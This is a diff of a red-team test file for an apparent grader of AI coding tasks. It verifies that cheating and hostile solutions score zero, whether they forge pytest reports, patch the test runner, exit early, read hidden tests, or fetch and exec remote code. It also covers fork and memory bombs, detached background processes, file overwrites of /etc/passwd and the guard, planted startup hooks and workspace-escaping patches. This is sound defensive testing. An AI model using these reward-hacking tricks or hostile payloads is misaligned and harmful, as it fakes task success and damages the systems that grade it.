@@ -1,230 +1,282 @@
-"""Red team: real cheating or hostile solutions, applied to a real generated task
-and graded by the real engine. Every attack must score 0 (with the reason in
-`tampering` where there is one to give), the gold patch must still score 1
-under the same hardening, and nothing may be left running afterwards."""
+"""Red team: real attacks on real tasks through the real engine.
+
+Every attack in tests/redteam_kit.py starts from a wrong implementation of the
+removed feature and is graded twice: by the naive grader (every defence off:
+run the tests, believe what they report), where it must score 1, which shows the
+attack works, and by taskforge's grader, where it must score 0 with the finding
+that stopped it. Targets: a fixture function with parametrized tests (textkit
+`to_roman`), a fixture method tested through a class and a value object
+(geomlib `midpoint`), and a real library from the package index (inflection
+`dasherize`, parametrized over a module-level table).
+
+Honest solutions must keep scoring 1 under the same grader, and hostile ones
+(crashes, floods, bombs) must cost nobody else their reward.
+"""
 from __future__ import annotations
 
 import os
 import shutil
 import subprocess
+import sys
 import textwrap
 import time
 from pathlib import Path
 
 import pytest
 
-from taskforge.verify import Solution, verify, verify_many
+sys.path.insert(0, str(Path(__file__).resolve().parent))
 
-PKG_INIT = "textkit/__init__.py"
-CASES = "textkit/cases.py"
-TESTS = "tests/test_cases.py"
+from redteam_kit import ATTACKS, Target, append, wrong_solution  # noqa: E402
 
+from taskforge.grade.findings import Severity  # noqa: E402
+from taskforge.pipeline import Options, generate  # noqa: E402
+from taskforge.verify import Defences, Solution, verify, verify_many  # noqa: E402
 
-@pytest.fixture(scope="module")
-def task(generated):
-    out, report = generated("textkit")
-    tid = next(t for t in report.tasks if ".cases.to_snake-" in t)
-    return out / tid
-
-
-def solution(task: Path, tmp: Path, gold: bool = False, write: dict | None = None,
-             append: dict | None = None, delete: tuple = ()) -> Solution:
-    """A solution directory: the workspace, optionally with the gold patch, then edits."""
-    sol = tmp / "solution"
-    shutil.copytree(task / "workspace", sol)
-    if gold:
-        subprocess.run(["git", "apply", str(task / "gold.patch")], cwd=sol, check=True)
-    for rel, text in (write or {}).items():
-        (sol / rel).parent.mkdir(parents=True, exist_ok=True)
-        (sol / rel).write_text(textwrap.dedent(text))
-    for rel, text in (append or {}).items():
-        with open(sol / rel, "a") as fh:
-            fh.write("\n" + textwrap.dedent(text))
-    for rel in delete:
-        p = sol / rel
-        shutil.rmtree(p) if p.is_dir() else p.unlink()
-    return Solution.from_dir(sol)
+TARGETS = {
+    "roman": Target(match=".numerals.to_roman-", module="textkit/numerals.py", func="to_roman",
+                    wrong='def to_roman(number):\n    if not 0 < number < 4000:\n'
+                          '        raise ValueError("out of range")\n    return "I" * number\n',
+                    init="textkit/__init__.py", tests="tests/test_numerals.py",
+                    oracle_param="numeral"),
+    "midpoint": Target(match=".measure.midpoint-", module="src/geomlib/ops/measure.py",
+                       func="midpoint", wrong="def midpoint(a, b):\n    return a\n",
+                       init="src/geomlib/__init__.py", tests="tests/test_ops.py"),
+    "real": Target(match=".dasherize-", module="inflection/__init__.py", func="dasherize",
+                   wrong="def dasherize(word):\n    return word\n",
+                   init="inflection/__init__.py", tests="test_inflection.py",
+                   oracle_param="expected"),
+}
+FIXTURE_OF = {"roman": ("textkit", "numerals.to_roman"), "midpoint": ("geomlib", "measure.midpoint")}
+REAL = ("inflection", "0.5.1", "inflection.dasherize")
 
 
-def to_snake_as(code: str) -> dict:
-    """Edits that define to_snake as `code` and re-export it, as the gold patch does."""
-    return {CASES: code, PKG_INIT: "from textkit.cases import to_snake\n"}
+@pytest.fixture(scope="session")
+def redteam_tasks(fixture_repos, base_image, tmp_path_factory):
+    """target name -> task directory, generated on first use."""
+    cache: dict[str, Path] = {}
+
+    def get(name: str) -> Path:
+        if name not in cache:
+            t = TARGETS[name]
+            out = tmp_path_factory.mktemp(f"rt-{name}")
+            if name == "real":
+                from taskforge.sdist import repo_from_sdist
+
+                repo = repo_from_sdist(REAL[0], REAL[1], tmp_path_factory.mktemp("rt-sdist"))
+                only = REAL[2]
+            else:
+                repo, only = fixture_repos[FIXTURE_OF[name][0]], FIXTURE_OF[name][1]
+            report = generate(str(repo), out, Options(max_tasks=1, jobs=2, only=(only,)))
+            tid = next(x for x in report.tasks if t.match in x)
+            cache[name] = out / tid
+        return cache[name]
+
+    return get
 
 
-def grade(task, sol, timeout=120.0):
+CASES = [(a, target) for a in ATTACKS for target in a.targets]
+PARAMS = [pytest.param(a, t, id=f"{a.name}@{t}", marks=[pytest.mark.network] if t == "real" else [])
+          for a, t in CASES]
+
+
+def grade(task: Path, sol: Path, defences: Defences | None = None, timeout: float | None = None):
     t0 = time.monotonic()
-    res = verify(task, sol, timeout=timeout)
-    assert time.monotonic() - t0 < timeout + 30, "verify overran its timeout"
+    res = verify(task, Solution.from_dir(sol), timeout=timeout, defences=defences)
     assert res.error is None, res.error
+    assert time.monotonic() - t0 < (timeout or 300) + 60, "verify overran its time limit"
     return res
 
 
-def assert_zero(res, *kinds):
-    assert res.reward == 0.0, res.model_dump_json(indent=1)
-    for k in kinds:
-        assert any(t.startswith(k + ":") for t in res.tampering), (k, res.tampering)
+def test_the_suite_is_big_enough():
+    assert len(CASES) >= 30
+    assert {"roman", "midpoint", "real"} <= {t for _, t in CASES}
 
 
-def test_gold_scores_one_under_hardening(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, gold=True))
+@pytest.mark.parametrize("attack,target", PARAMS)
+def test_attack(attack, target, redteam_tasks, tmp_path):
+    task = redteam_tasks(target)
+    t = TARGETS[target]
+    sol = tmp_path / "solution"
+    attack.build(task, sol, t)
+    naive = grade(task, sol, Defences.naive(), timeout=attack.timeout)
+    assert naive.reward == 1.0, ("the attack does not even beat the naive grader",
+                                 naive.model_dump_json(indent=1))
+    ours = grade(task, sol, timeout=attack.timeout)
+    assert ours.reward == 0.0, ours.model_dump_json(indent=1)
+    fatal = {f.kind.value for f in ours.findings if f.severity is Severity.FATAL}
+    failed = ours.f2p_failures or ours.p2p_regressions
+    assert fatal or failed, ours.model_dump_json(indent=1)
+    if attack.kinds:      # the defence that stopped it says so
+        seen = {f.kind.value for f in ours.findings}
+        assert seen & set(attack.kinds), (attack.kinds, [f.text() for f in ours.findings])
+
+
+# ------------------------------------------------------------- honest solutions
+
+def honest_gold(task: Path, dest: Path) -> Path:
+    shutil.copytree(task / "workspace", dest)
+    subprocess.run(["git", "apply", str(task / "gold.patch")], cwd=dest, check=True)
+    return dest
+
+
+@pytest.mark.parametrize("target", ["roman", "midpoint", pytest.param("real", marks=pytest.mark.network)])
+def test_gold_as_a_patch_and_as_a_tree_scores_one(target, redteam_tasks, tmp_path):
+    task = redteam_tasks(target)
+    res = verify(task, Solution.from_patch((task / "gold.patch").read_text()))
     assert res.reward == 1.0, res.model_dump_json(indent=1)
-    assert res.tampering == []
+    assert res.mutants_planted >= 1 and res.mutants_killed == res.mutants_planted
+    res = grade(task, honest_gold(task, tmp_path / "gold"))
+    assert res.reward == 1.0, res.model_dump_json(indent=1)
+    assert not [f for f in res.findings if f.severity is not Severity.INFO], res.findings
 
 
-def test_edit_hidden_and_visible_tests(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, write={
-        TESTS: "def test_to_snake():\n    assert True\n",
-        "tests/test_analysis.py": "def test_nothing():\n    pass\n"}))
-    assert_zero(res, "restored-file")
+def test_gold_with_an_unrelated_always_equal_sentinel(redteam_tasks, tmp_path):
+    """An always-equal object the tests never compare (a sentinel, as libraries
+    define) costs nothing when the mutants pass honestly: flag it, score 1 under
+    the flag policy; the default policy scores the construct itself 0."""
+    task = redteam_tasks("roman")
+    sol = honest_gold(task, tmp_path / "s")
+    append(sol / "textkit/numerals.py", '''\
+        class _Missing:
+            def __eq__(self, other):
+                return True
+            __hash__ = object.__hash__
+
+        MISSING = _Missing()
+        ''')
+    from taskforge.grade.findings import Policy
+
+    flag = grade(task, sol, Defences(policy=Policy.FLAG))
+    assert flag.reward == 1.0, flag.model_dump_json(indent=1)
+    assert any(f.kind.value == "always-equal" for f in flag.findings)
 
 
-def test_delete_the_tests(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, delete=("tests",)))
-    assert_zero(res, "restored-file")
+def test_honest_tests_that_read_their_own_data_files(fixture_repos, base_image, tmp_path):
+    """A hidden test handing package code a path to its own data file (and to its
+    own source, as click.File(default=__file__) does) is not cheating."""
+    from conftest import make_git_repo
+
+    src = tmp_path / "src"
+    shutil.copytree(Path(__file__).resolve().parent.parent / "fixtures" / "repos" / "textkit", src)
+    (src / "textkit" / "loader.py").write_text(textwrap.dedent('''\
+        def count_lines(path):
+            """Number of non-empty lines in a text file."""
+            with open(path, encoding="utf-8") as fh:
+                return sum(1 for line in fh if line.strip())
+        '''))
+    (src / "tests" / "data").mkdir()
+    (src / "tests" / "data" / "words.txt").write_text("alpha\nbeta\n\ngamma\n")
+    (src / "tests" / "test_loader.py").write_text(textwrap.dedent('''\
+        import os
+        from textkit.loader import count_lines
+
+        HERE = os.path.dirname(__file__)
+
+        def test_count_lines_of_data():
+            assert count_lines(os.path.join(HERE, "data", "words.txt")) == 3
+
+        def test_count_lines_of_own_source():
+            assert count_lines(__file__) == 9
+        '''))
+    repo = make_git_repo(src, tmp_path / "repo")
+    out = tmp_path / "tasks"
+    report = generate(str(repo), out, Options(max_tasks=1, jobs=2, only=("loader.count_lines",)))
+    assert report.tasks, report.model_dump_json(indent=1)
+    res = verify(out / report.tasks[0], Solution.gold())
+    assert res.reward == 1.0, res.model_dump_json(indent=1)
 
 
-def test_skip_through_markers(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, write={
-        "tests/test_zzz.py": "import pytest\n", TESTS: "import pytest\npytestmark = pytest.mark.skip\n"}))
-    assert_zero(res, "restored-file", "removed-unshipped")
+def pyproject(src: Path, name: str, extra: str = "") -> None:
+    (src / "pyproject.toml").write_text(
+        f'[project]\nname = "{name}"\nversion = "0.1"\n[build-system]\nrequires = ["setuptools"]\n'
+        f'build-backend = "setuptools.build_meta"\n[tool.setuptools]\npackages = ["{name}"]\n{extra}')
 
 
-def test_skip_through_config(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, write={
-        "pytest.ini": "[pytest]\naddopts = -k 'not snake' -p no:tf_guard\n",
-        "setup.cfg": "[tool:pytest]\naddopts = --deselect tests/test_cases.py\n"},
-        append={"pyproject.toml": "\n"}))
-    assert_zero(res, "removed-unshipped")
+def test_doctest_only_feature(base_image, tmp_path):
+    """A feature whose only tests are doctests (a text file run with
+    --doctest-glob): no test function to mutate or rename, nothing planted in a
+    file pytest does not collect, and the gold still scores 1."""
+    from conftest import make_git_repo
+
+    src = tmp_path / "src"
+    (src / "dt").mkdir(parents=True)
+    (src / "dt" / "__init__.py").write_text("")
+    (src / "dt" / "core.py").write_text(
+        "def double(x):\n    return 2 * x\n\n\ndef half(x):\n    return x / 2\n")
+    (src / "tests").mkdir()
+    (src / "tests" / "test_core.py").write_text(
+        "from dt.core import half\n\n\ndef test_half():\n    assert half(4) == 2\n\n\n"
+        "def test_half_odd():\n    assert half(3) == 1.5\n")
+    (src / "tests" / "usage.txt").write_text(
+        "Doubling\n========\n\n>>> from dt.core import double\n>>> double(21)\n42\n")
+    pyproject(src, "dt", '[tool.pytest.ini_options]\naddopts = "--doctest-glob=*.txt"\n')
+    repo = make_git_repo(src, tmp_path / "repo")
+    out = tmp_path / "tasks"
+    report = generate(str(repo), out, Options(max_tasks=1, jobs=2, only=("core.double",)))
+    assert report.tasks, report.model_dump_json(indent=1)
+    task = out / report.tasks[0]
+    from taskforge.task_store import load_task
+
+    rec = load_task(task).record
+    assert rec.FAIL_TO_PASS == ["tests/usage.txt::usage.txt"]
+    assert rec.grading.hidden_functions == 0 and rec.grading.mutants == []
+    assert verify(task, Solution.gold()).reward == 1.0
+    assert verify(task, Solution.empty()).reward == 0.0
 
 
-def test_conftest_rewrites_reports(task, tmp_path):
-    hook = """\
-        import pytest
+# ------------------------------------------------- hostile, and one bad apple
 
-        @pytest.hookimpl(hookwrapper=True)
-        def pytest_runtest_makereport(item, call):
-            outcome = yield
-            rep = outcome.get_result()
-            rep.outcome = "passed"
-            rep.longrepr = None
-        """
-    res = grade(task, solution(task, tmp_path, write={"conftest.py": hook,
-                                                      "textkit/conftest.py": hook}))
-    assert_zero(res, "removed-unshipped")
-
-
-def test_package_patches_pytest_at_import(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
-        import _pytest.reports as _r
-        _orig = _r.TestReport.from_item_and_call
-        def _forged(item, call):
-            rep = _orig(item, call)
-            rep.outcome = "passed"
-            rep.longrepr = None
-            return rep
-        _r.TestReport.from_item_and_call = staticmethod(_forged)
-        """}))
-    assert_zero(res, "runner-internals")
-    assert any(t.startswith(("runner-patched:", "canary:")) for t in res.tampering), res.tampering
-
-
-def test_package_patches_unittest_at_import(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
-        import unittest
-        unittest.TestCase.run = lambda self, result=None: None
-        """}))
-    assert_zero(res, "runner-internals")
-
-
-def test_sys_exit_zero_at_import(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: "import sys\nsys.exit(0)\n"}))
-    assert_zero(res)
-
-
-def test_os_exit_zero_at_import(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: "import os\nos._exit(0)\n"}))
-    assert_zero(res, "early-exit")
-
-
-def test_os_exit_zero_inside_a_test(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as(
-        "def to_snake(text):\n    import os\n    os._exit(0)\n")))
-    assert_zero(res, "early-exit")
-
-
-def test_sys_exit_zero_inside_a_test(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as(
-        "def to_snake(text):\n    raise SystemExit(0)\n")))
-    assert_zero(res)
-    assert res.f2p_passed == 0
-
-
-def test_forged_report_files(task, tmp_path):
-    forged = """\
-        import json, os
-        for d in ("/opt/tf/out", "/tmp", os.getcwd()):
-            try:
-                with open(os.path.join(d, "report.jsonl"), "w") as fh:
-                    fh.write(json.dumps({"$report_type": "SessionFinish", "exitstatus": 0}))
-                with open(os.path.join(d, "run.json"), "w") as fh:
-                    fh.write('{"exit_code": 0, "seconds": 1}')
-            except OSError:
-                pass
-        """
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: forged}))
-    assert_zero(res)
-    assert res.f2p_passed == 0
-
-
-def test_fake_passed_lines_on_the_console(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
+def test_a_batch_survives_its_worst_items(redteam_tasks, tmp_path):
+    """A malformed stream, a 100 MiB flood of output, a crash mid-stream and a
+    task directory that is not one, in one batch with golds: each bad item gets
+    0 (or an error) with a finding, the golds keep their 1, no traceback."""
+    task = redteam_tasks("roman")
+    t = TARGETS["roman"]
+    flood = wrong_solution(task, tmp_path / "flood", t)
+    append(flood / t.init, '''\
         import sys
-        for i in range(50):
-            print(f"tests/test_cases.py::test_to_snake[case{i}] PASSED")
-        print("========== 80 passed in 0.01s ==========")
-        sys.stdout.flush()
-        """}))
-    assert_zero(res)
-    assert res.f2p_passed == 0
+        _line = "x" * 1023 + "\\n"
+        for _ in range(100 * 1024):
+            sys.stdout.write(_line)
+            sys.stderr.write(_line)
+        ''')
+    crash = wrong_solution(task, tmp_path / "crash", t)
+    append(crash / t.init, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")
+    malformed = wrong_solution(task, tmp_path / "malformed", t)
+    append(malformed / t.init, '''\
+        import os, sys
+        _fd = sys.modules["tf_guard"]._FD
+        os.write(_fd, b'{"$report_type": "TestReport", "when": "call"}\\n[1, 2]\\n\\x00\\xff\\n')
+        ''')
+    pairs = [(task, Solution.gold()), (task, Solution.from_dir(flood)),
+             (task, Solution.from_dir(crash)), (task, Solution.from_dir(malformed)),
+             (tmp_path / "not-a-task", Solution.gold()), (task, Solution.gold())]
+    import resource
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    results = verify_many(pairs, workers=3)
+    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    assert [r.reward for r in results] == [1.0, 0.0, 0.0, 0.0, None, 1.0], \
+        [(r.reward, r.error, r.tampering) for r in results]
+    assert results[4].error and "no such task" in results[4].error
+    kinds = [{f.kind.value for f in r.findings} for r in results]
+    assert "early-exit" in kinds[2]
+    assert "malformed-event" in kinds[3]
+    assert grown_mb < 200, f"host memory grew by {grown_mb:.0f} MB"
 
 
-def test_object_equal_to_everything(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
-            class _Anything(str):
-                def __eq__(self, other):
-                    return True
+def test_cli_verify_batch_json_with_a_bad_item(redteam_tasks, tmp_path):
+    import json
 
-            def to_snake(text):
-                return _Anything()
-            """)))
-    assert_zero(res, "always-equal")
-
-
-def test_reading_the_hidden_tests(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
-            def to_snake(text):
-                import ast, pathlib
-                src = pathlib.Path(__file__).parent.parent / "tests" / "test_cases.py"
-                tree = ast.parse(src.read_text())
-                for node in ast.walk(tree):
-                    if isinstance(node, ast.Tuple) and len(node.elts) == 2 and all(
-                            isinstance(e, ast.Constant) for e in node.elts):
-                        if node.elts[0].value == text:
-                            return node.elts[1].value
-                return text
-            """)))
-    assert_zero(res, "read-test-file")
-
-
-def test_network_fetch_of_the_original(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as("""\
-            def to_snake(text):
-                import urllib.request
-                src = urllib.request.urlopen("https://pypi.org/simple/textkit/", timeout=5).read()
-                exec(src)
-                return to_snake(text)
-            """)))
-    assert_zero(res, "network")
+    task = redteam_tasks("roman")
+    lines = [{"task": str(task), "solution": "gold"}, {"task": str(tmp_path / "nope"), "solution": "gold"},
+             {"task": str(task), "solution": "empty"}]
+    (tmp_path / "pairs.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
+    res = subprocess.run(["taskforge", "verify-batch", str(tmp_path / "pairs.jsonl"), "--workers", "2",
+                          "--json"], capture_output=True, text=True)
+    assert "Traceback" not in res.stderr, res.stderr
+    rewards = [json.loads(x)["reward"] for x in res.stdout.splitlines()]
+    assert rewards == [1.0, None, 0.0]
 
 
 def no_process_matching(marker: str) -> bool:
@@ -232,95 +284,46 @@ def no_process_matching(marker: str) -> bool:
     return marker not in out
 
 
-def test_fork_bomb(task, tmp_path, docker_engine):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
-        import os
-        for _ in range(100000):
-            try:
-                os.fork()
-            except OSError:
-                pass
-        """}), timeout=30)
-    assert_zero(res)
+@pytest.mark.parametrize("bomb", ["fork", "memory", "loop-at-import", "huge-output", "sleeper"])
+def test_resource_attacks_score_zero_and_leave_nothing(bomb, redteam_tasks, tmp_path, docker_engine):
+    task = redteam_tasks("roman")
+    t = TARGETS["roman"]
+    sol = wrong_solution(task, tmp_path / "s", t)
+    marker = f"tf-redteam-sleeper-{os.getpid()}"
+    code = {
+        "fork": "import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
+        "memory": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))\n",
+        "loop-at-import": "while True:\n    pass\n",
+        "huge-output": "import sys\nwhile True:\n    sys.stdout.write('x' * 1023 + '\\n')\n",
+        "sleeper": f"import subprocess\nsubprocess.Popen(['sh', '-c', 'exec -a {marker} sleep 600'],"
+                   " start_new_session=True)\n",
+    }[bomb]
+    append(sol / t.init, code)
+    t0 = time.monotonic()
+    res = grade(task, sol, timeout=30)
+    assert res.reward == 0.0, res.model_dump_json(indent=1)
+    assert time.monotonic() - t0 < 90
+    assert no_process_matching(marker)
     from taskforge.state import owner_token
 
-    # This process's verify containers (another run may share the engine).
     assert not docker_engine.containers.list(all=True, filters={"label": [
         "taskforge.role=verify", f"taskforge.owner={owner_token()}"]})
 
 
-def test_memory_bomb(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
-        blocks = []
-        while True:
-            blocks.append(bytearray(64 * 1024 * 1024))
-        """}), timeout=60)
-    assert_zero(res)
+def test_the_time_limit_follows_the_task(redteam_tasks):
+    """An infinite loop no longer holds a worker for the 900 s default: the limit
+    comes from the task's measured run."""
+    from taskforge.task_store import load_task
+
+    rec = load_task(redteam_tasks("roman")).record
+    assert rec.grading.timeout is not None and rec.grading.timeout <= 60
+    assert rec.grading.measured_seconds > 0
 
 
-def test_infinite_loop(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append=to_snake_as(
-        "def to_snake(text):\n    while True:\n        pass\n")), timeout=20)
-    assert_zero(res, "timeout")
-    assert res.timed_out
-
-
-def test_huge_output(task, tmp_path):
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: """\
-        import sys
-        line = "x" * 1023 + "\\n"
-        while True:
-            sys.stdout.write(line)
-        """}), timeout=20)
-    # pytest captures into /tmp (a small tmpfs): it fills and the session dies, or time runs out.
-    assert_zero(res)
-    assert any(t.startswith(("timeout:", "early-exit:")) for t in res.tampering), res.tampering
-
-
-def test_writes_outside_the_workspace_and_background_process(task, tmp_path):
-    marker = "tf-redteam-sleeper-4242"
-    res = grade(task, solution(task, tmp_path, append={PKG_INIT: f"""\
-        import os, subprocess
-        for path in ("/opt/tf/lib/tf_guard.py", "/opt/tf/lib/tfrun.py", "/etc/passwd",
-                     "/usr/lib/python3/dist-packages/x.py", "/opt/tf/venv/lib/evil.pth"):
-            try:
-                with open(path, "w") as fh:
-                    fh.write("pwned")
-            except OSError:
-                pass
-        subprocess.Popen(["sh", "-c", "exec -a {marker} sleep 600"], start_new_session=True)
-        """}))
-    assert_zero(res)
-    guard = Path(__file__).resolve().parent.parent / "taskforge" / "data" / "tf_guard.py"
-    assert "pwned" not in guard.read_text()
-    assert no_process_matching(marker)
-
-
-def test_planted_startup_hooks(task, tmp_path):
-    patch_pytest = ("import _pytest.runner as r\n"
-                    "r.call_and_report = lambda *a, **k: None\n")
-    res = grade(task, solution(task, tmp_path, write={
-        "sitecustomize.py": patch_pytest, "textkit/usercustomize.py": patch_pytest,
-        "evil.pth": "import sitecustomize\n",
-        "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = sitecustomize\n",
-        "evil-1.0.dist-info/METADATA": "Name: evil\nVersion: 1.0\n"}))
-    assert_zero(res, "removed-startup-hook")
-
-
-def test_sixteen_verifies_at_once(generated):
-    out, report = generated("textkit")
-    tasks = report.tasks[:4]
-    pairs = [(out / t, s) for t in tasks for s in (Solution.gold(), Solution.empty())] * 2
-    results = verify_many(pairs, workers=16, timeout=600)
-    assert len(results) == 16
-    for (t, s), r in zip(pairs, results):
-        assert r.error is None, r.error
-        assert r.reward == (1.0 if s.kind == "gold" else 0.0), (t.name, s.kind, r.tampering)
-
-
-def test_missing_image_is_infrastructure_not_zero(task, tmp_path):
+def test_missing_image_is_infrastructure_not_zero(redteam_tasks, tmp_path):
     import json
 
+    task = redteam_tasks("roman")
     bad = tmp_path / "task"
     shutil.copytree(task, bad)
     data = json.loads((bad / "task.json").read_text())
@@ -330,23 +333,11 @@ def test_missing_image_is_infrastructure_not_zero(task, tmp_path):
     assert res.reward is None and res.error and "not found" in res.error
 
 
-def test_cli_verify_batch(generated, tmp_path):
-    import json
-
-    out, report = generated("textkit")
-    lines = [{"task": str(out / t), "solution": s} for t in report.tasks[:2] for s in ("gold", "empty")]
-    (tmp_path / "pairs.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
-    res = subprocess.run(["taskforge", "verify-batch", str(tmp_path / "pairs.jsonl"), "--workers", "4",
-                          "--json"], capture_output=True, text=True)
-    assert res.returncode == 0, res.stderr
-    rewards = [json.loads(x)["reward"] for x in res.stdout.splitlines()]
-    assert rewards == [1.0, 0.0, 1.0, 0.0]
-
-
 @pytest.mark.parametrize("kind", ["parent", "symlink"])
-def test_patch_that_escapes_the_workspace(task, tmp_path, kind):
+def test_patch_that_escapes_the_workspace(redteam_tasks, kind):
     """verify applies diffs as root on the host: a diff naming ../x, or one that
     plants a symlink to write through, must touch nothing outside its copy."""
+    task = redteam_tasks("roman")
     marker = f"tf-escape-{kind}-{os.getpid()}"
     if kind == "parent":
         patch = (f"diff --git a/../../../../tmp/{marker} b/../../../../tmp/{marker}\n"
@@ -361,3 +352,43 @@ def test_patch_that_escapes_the_workspace(task, tmp_path, kind):
     assert res.reward == 0.0 and res.error is None
     assert any("patch-rejected" in t for t in res.tampering), res.tampering
     assert not Path(f"/tmp/{marker}").exists()
+
+
+def test_hidden_tests_collected_through_another_module_are_not_left_readable(base_image, tmp_path):
+    """lark's tests/__main__.py imports the test classes that pytest collects: the
+    import goes with the hidden tests, but the module that defines them must not
+    stay in the workspace (an agent would read what it is graded on)."""
+    from conftest import make_git_repo
+
+    src = tmp_path / "src"
+    (src / "gr").mkdir(parents=True)
+    (src / "gr" / "__init__.py").write_text("")
+    (src / "gr" / "core.py").write_text(
+        "def greet(name):\n    return f'hello {name}'\n\n\ndef shout(text):\n    return text.upper()\n")
+    (src / "tests").mkdir()
+    (src / "tests" / "__init__.py").write_text("")
+    (src / "tests" / "cases.py").write_text(textwrap.dedent('''\
+        from gr.core import greet, shout
+
+
+        class TestGreet:
+            def test_hello(self):
+                assert greet("ada") == "hello ada"
+
+
+        class TestShout:
+            def test_upper(self):
+                assert shout("hey") == "HEY"
+        '''))
+    (src / "tests" / "test_all.py").write_text("from tests.cases import TestGreet, TestShout  # noqa\n")
+    pyproject(src, "gr")
+    repo = make_git_repo(src, tmp_path / "repo")
+    out = tmp_path / "tasks"
+    report = generate(str(repo), out, Options(max_tasks=2, jobs=2))
+    for tid in report.tasks:
+        ws = out / tid / "workspace"
+        text = "".join(p.read_text() for p in ws.rglob("*.py"))
+        assert "def test_hello" not in text or "greet" not in tid, tid
+        assert "def test_upper" not in text or "shout" not in tid, tid
+    drops = {d.candidate: d.reason for d in report.drops}
+    assert any("stays readable" in r for r in drops.values()) or not report.tasks, drops
